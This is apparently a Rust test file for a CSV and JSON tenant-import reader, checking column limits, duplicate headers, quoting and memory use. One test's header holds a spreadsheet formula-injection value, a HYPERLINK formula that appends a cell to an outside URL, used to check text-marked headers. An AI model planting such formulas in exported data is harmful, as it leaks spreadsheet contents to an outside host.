use super::*;

fn fields(problems: Problems) -> Vec<String> {
    match problems.into_result() {
        Ok(()) => Vec::new(),
        Err(crate::Error::Invalid(found)) => found.into_iter().map(|p| p.field).collect(),
        Err(other) => panic!("{other:?}"),
    }
}

fn csv(text: &str, max_rows: usize) -> (ReadRows, Vec<String>) {
    let mut problems = Problems::default();
    let read = rows_from_csv(text.as_bytes()).checked(max_rows, &mut problems);
    (read, fields(problems))
}

fn json(text: &str, max_rows: usize) -> (ReadRows, Vec<String>) {
    let mut problems = Problems::default();
    let read: ReadRows = serde_json::from_str(text).expect("rows");
    let read = read.checked(max_rows, &mut problems);
    (read, fields(problems))
}

fn values(read: &ReadRows, row: usize) -> Vec<(&str, &str)> {
    read.rows[row]
        .cells()
        .map(|(column, value)| (read.columns[column].as_str(), value))
        .collect()
}

#[test]
fn a_csv_reads_as_numbered_rows_with_their_lines() {
    let (read, problems) = csv(
        "\u{feff}Tenant.name,Tenant.email,Company\r\n\"Ñúñez, Zoë\",zoe@example.com,\r\n\"Two\nlines\",b@example.com,Acme\n\n",
        10,
    );
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(read.columns, ["Tenant.name", "Tenant.email", "Company"]);
    assert_eq!(read.rows.len(), 2);
    assert_eq!(read.rows[0].number, 1);
    assert_eq!(read.rows[0].line, Some(2));
    assert_eq!(
        values(&read, 0),
        [
            ("Tenant.name", "Ñúñez, Zoë"),
            ("Tenant.email", "zoe@example.com")
        ],
        "blank: no value"
    );
    assert_eq!(read.rows[1].line, Some(3));
    assert_eq!(values(&read, 1)[0], ("Tenant.name", "Two\nlines"));
    assert_eq!(values(&read, 1)[2], ("Company", "Acme"));
}

#[test]
fn a_header_cell_marked_as_text_names_its_column() {
    let (read, problems) = csv(
        "\"'=HYPERLINK(\"\"http://x/\"\"&A2).name\",'Tis.email,'-1\nAnn,a@example.com,x\n",
        10,
    );
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(
        read.columns,
        [r#"=HYPERLINK("http://x/"&A2).name"#, "'Tis.email", "-1"]
    );
    assert_eq!(values(&read, 0)[2], ("-1", "x"));
}

#[test]
fn a_csv_that_is_empty_too_long_or_ragged_is_refused() {
    assert_eq!(csv("", 10).1, ["rows"]);
    assert_eq!(csv("A.name\n", 10).1, ["rows"]);
    assert_eq!(csv("A.name\nx\ny\nz\n", 2).1, ["rows"]);
    assert_eq!(csv("A.name,A.email\nx\n", 2).1, ["rows[1]"]);
    assert_eq!(csv("A.name,A.name\nx,y\n", 2).1, ["header.A.name"]);
}

#[test]
fn a_header_of_too_many_columns_is_refused_before_any_row_is_read() {
    let header: Vec<String> = (0..=MAX_COLUMNS).map(|i| format!("c{i}")).collect();
    let text = format!(
        "{}\n{}\n",
        header.join(","),
        vec!["x"; header.len()].join(",")
    );
    let (read, problems) = csv(&text, 10);
    assert_eq!(problems, ["header"]);
    assert!(read.rows.is_empty() && read.columns.is_empty());
}

#[test]
fn many_repeated_header_columns_are_found_in_one_pass() {
    // 2,000 columns of which every second repeats an earlier one: each named once.
    let header: Vec<String> = (0..MAX_COLUMNS).map(|i| format!("c{}", i / 2)).collect();
    let (read, problems) = csv(&format!("{}\n", header.join(",")), 10);
    assert_eq!(read.columns.len(), MAX_COLUMNS / 2);
    assert_eq!(problems.len(), MAX_COLUMNS / 2, "one per repeat");
}

#[test]
fn json_rows_take_strings_and_skip_blanks() {
    let (read, problems) = json(
        r#"[{"A.name": "x", "A.email": null, "Company": " ", "A.countryCode": 1}, 7]"#,
        10,
    );
    assert_eq!(values(&read, 0), [("A.name", "x")]);
    assert_eq!(problems, ["rows[1].A.countryCode", "rows[2]"]);
}

#[test]
fn a_column_given_twice_in_a_json_row_is_refused() {
    let (_, problems) = json(r#"[{"A.name": "x", "A.name": "y"}]"#, 10);
    assert_eq!(problems, ["rows[1].A.name"]);
}

#[test]
fn json_rows_name_at_most_max_columns_and_are_counted_past_the_limit() {
    let keys: Vec<String> = (0..MAX_COLUMNS + 5)
        .map(|i| format!("\"k{i}\":\"v\""))
        .collect();
    let (read, problems) = json(&format!("[{{{}}}]", keys.join(",")), 10);
    assert_eq!(read.columns.len(), MAX_COLUMNS);
    assert_eq!(problems, ["rows[1]"], "once for the row");

    let (read, problems) = json(&format!("[{}]", ["{}"; 12].join(",")), 10);
    assert_eq!(read.count, 12);
    assert!(read.rows.is_empty());
    assert_eq!(problems, ["rows"]);
}

/// What the rows hold on the heap, as the docs state it: about the input's size.
fn heap_bytes(read: &ReadRows) -> usize {
    read.rows.capacity() * std::mem::size_of::<Row>()
        + read
            .rows
            .iter()
            .map(|r| r.text.len() + std::mem::size_of_val(&*r.cells))
            .sum::<usize>()
        + read
            .columns
            .iter()
            .map(|c| c.capacity() + 48)
            .sum::<usize>()
            * 2
}

#[test]
fn rows_take_at_most_a_small_multiple_of_the_input() {
    // The densest inputs: one-letter columns and values, 26 to a row.
    let letters: Vec<String> = (b'A'..=b'Z').map(|c| char::from(c).to_string()).collect();
    let row = format!(
        "{{{}}}",
        letters
            .iter()
            .map(|c| format!("\"{c}\":\"v\""))
            .collect::<Vec<_>>()
            .join(",")
    );
    let body = format!("[{}]", vec![row; 20_000].join(","));
    let read: ReadRows = serde_json::from_str(&body).unwrap();
    assert_eq!(read.rows.len(), 20_000);
    let ratio = heap_bytes(&read) as f64 / body.len() as f64;
    assert!(ratio < 1.5, "JSON rows take {ratio:.2} × the body");

    let text = format!(
        "{}\n{}",
        letters.join(","),
        vec![vec!["v"; 26].join(","); 40_000].join("\n")
    );
    let read = rows_from_csv(text.as_bytes());
    assert_eq!(read.rows.len(), 40_000);
    let ratio = heap_bytes(&read) as f64 / text.len() as f64;
    assert!(ratio < 5.0, "CSV rows take {ratio:.2} × the file");
}
